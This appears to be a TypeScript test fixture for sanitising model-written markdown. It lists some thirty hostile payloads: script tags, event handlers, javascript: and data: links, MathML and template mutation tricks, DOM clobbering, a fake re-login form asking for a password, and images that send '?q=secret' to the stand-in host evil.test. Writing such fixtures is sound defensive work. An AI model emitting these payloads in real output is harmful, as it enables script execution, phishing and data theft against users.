/** An address that nothing may ever ask. */
export const evilOrigin = 'https://evil.test';

const url = (name: string): string => `${evilOrigin}/${name}?q=secret`;
const run = (name: string): string => `globalThis.ran=[...(globalThis.ran??[]),'${name}']`;

/** What a model may be brought to write: each would run, fetch, send or cover something if the page let it. */
export const hostileMarkdown: Readonly<Record<string, string>> = {
  script: `<script>${run('script')}</script>`,
  'script from elsewhere': `<script src="${url('script')}"></script>`,
  'error handler': `<img src=x onerror="${run('onerror')}">`,
  'load handler': `<svg onload="${run('onload')}"><circle r="9"/></svg>`,
  'script in SVG': `<svg><script>${run('svg script')}</script><use href="${url('use')}#a"/><image href="${url('svg-image')}"/></svg>`,
  'toggle handler': `<details open ontoggle="${run('ontoggle')}"><summary>a</summary></details>`,
  'focus handler': `<input autofocus onfocus="${run('onfocus')}">`,
  'animation handler': `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${run('animation')}">b</b>`,
  frame: `<iframe src="${url('frame')}"></iframe><iframe srcdoc="<script>parent.ran=['srcdoc']</script>"></iframe>`,
  object: `<object data="${url('object')}"></object><embed src="${url('embed')}">`,
  form: `<form action="${url('form')}"><button>Log in again</button><input name="password"></form>`,
  overlay: `<div style="position:fixed;inset:0;z-index:9999;background:url(${url('style')})">Covered</div>`,
  stylesheet: `<style>body{display:none;background:url(${url('sheet')})}</style><link rel="stylesheet" href="${url('link')}">`,
  'refresh and base': `<meta http-equiv="refresh" content="0;url=${url('refresh')}"><base href="${url('base')}">`,
  'javascript link': `[a link](javascript:${run('link')}) and <a href="jAvAsCrIpT:${run('html link')}">one in HTML</a>`,
  'entity link': `<a href="&#106;avascript:${run('entity')}">entities</a> <a href="java\tscript:${run('tab')}">a tab</a>`,
  'data link': `[data](data:text/html;base64,PHNjcmlwdD5vcGVuZXIucmFuPVsnZGF0YSddPC9zY3JpcHQ+)`,
  'link that opens us': `<a href="${url('opener')}" target="_blank">new tab</a>`,
  'image that tells': `![the weather](${url('image')})`,
  'image by reference': `![by reference][r]\n\n[r]: ${url('reference')}`,
  'image in HTML': `<img src="${url('html-image')}" srcset="${url('srcset')} 2x" alt="a"> <picture><source srcset="${url('source')}"><img></picture>`,
  'image of data': `![svg](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=)`,
  media: `<video src="${url('video')}" poster="${url('poster')}" autoplay></video><audio src="${url('audio')}" autoplay></audio>`,
  MathML: `<math><mtext><table><mglyph><style><img src=x onerror="${run('mathml')}"></style></mglyph></table></mtext></math>`,
  clobbering: `<a id="defaultView">a</a><form id="body" name="cookie"><input name="getElementById"></form>`,
  classes: `<div class="cdk-overlay-container cdk-global-overlay-wrapper">over everything</div>`,
  template: `<template><img src=x onerror="${run('template')}"></template><noscript><p title="</noscript><img src=x onerror=${run('noscript')}>"></noscript>`,
  'broken tags': `<img src="x" onerror="${run('unclosed')}"`,
  'Angular template': `{{constructor.constructor("${run('template expression')}")()}} @if (true) { <b>b</b> }`,
  'code that ends itself': `\`\`\`html"><img src=x onerror=${run('info')}>\n</code></pre><script>${run('code')}</script>\n\`\`\``,
  'title and alternative': `![a" onerror="${run('alt')}](x "b' onerror='${run('title')}")`,
  autolink: `<javascript:${run('autolink')}> www.evil.test/"onmouseover="${run('www')}`,
};
